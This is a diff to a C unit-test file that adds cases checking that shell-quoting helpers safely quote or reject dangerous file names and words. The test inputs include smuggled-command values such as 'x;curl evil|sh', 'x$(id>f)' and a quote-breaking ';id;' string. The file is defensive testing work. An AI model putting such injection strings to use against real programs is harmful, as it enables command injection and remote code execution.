@@ -96,7 +96,12 @@ static void operands_are_as_a_shell_takes_them(void)
 		{ "-a b", "'./-a b'" },
 		{ "", "''" },
 		{ "~", "'~'" },
-		{ "Gr\xc3\xbc\xc3\x9f" "e", "Gr\xc3\xbc\xc3\x9f" "e" },
+		{ "Gr\xc3\xbc\xc3\x9f" "e", "'Gr\xc3\xbc\xc3\x9f" "e'" },
+		{ "=ls", "'=ls'" },
+		{ "back\\slash", "FILE" },
+		{ "csi\xc2\x9b", "FILE" },
+		{ "right to left \xe2\x80\xae", "FILE" },
+		{ "not UTF-8 \xff", "FILE" },
 		{ "a\nb", "FILE" },
 	};
 	char buf[OPERAND_SIZE], path[2 * OPERAND_SIZE];
@@ -114,6 +119,23 @@ static void operands_are_as_a_shell_takes_them(void)
 	}
 }
 
+static void words_are_as_a_shell_takes_them(void)
+{
+	char buf[OPERAND_SIZE], name[OPERAND_SIZE + 1];
+
+	CHECK_STR(text_shell_word(buf, "eth0", "NAME"), "eth0");
+	CHECK_STR(text_shell_word(buf, "x$(id>f)", "NAME"), "'x$(id>f)'");
+	CHECK_STR(text_shell_word(buf, "x;curl evil|sh", "NAME"), "'x;curl evil|sh'");
+	CHECK_STR(text_shell_word(buf, "it's", "NAME"), "'it'\\''s'");
+	CHECK_STR(text_shell_word(buf, "-h", "NAME"), "NAME");
+	CHECK_STR(text_shell_word(buf, "", "NAME"), "NAME");
+	CHECK_STR(text_shell_word(buf, "a\nb", "NAME"), "NAME");
+	CHECK_STR(text_shell_word(buf, "\\';id;\\'", "NAME"), "NAME");
+	memset(name, 'x', OPERAND_SIZE);
+	name[OPERAND_SIZE] = '\0';
+	CHECK_STR(text_shell_word(buf, name, "NAME"), "NAME");
+}
+
 int main(void)
 {
 	CASE(numbers_are_whole);
@@ -123,5 +145,6 @@ int main(void)
 	CASE(names_are_one_component);
 	CASE(prefixes_leave_the_rest);
 	CASE(operands_are_as_a_shell_takes_them);
+	CASE(words_are_as_a_shell_takes_them);
 	return CHECK_DONE();
 }
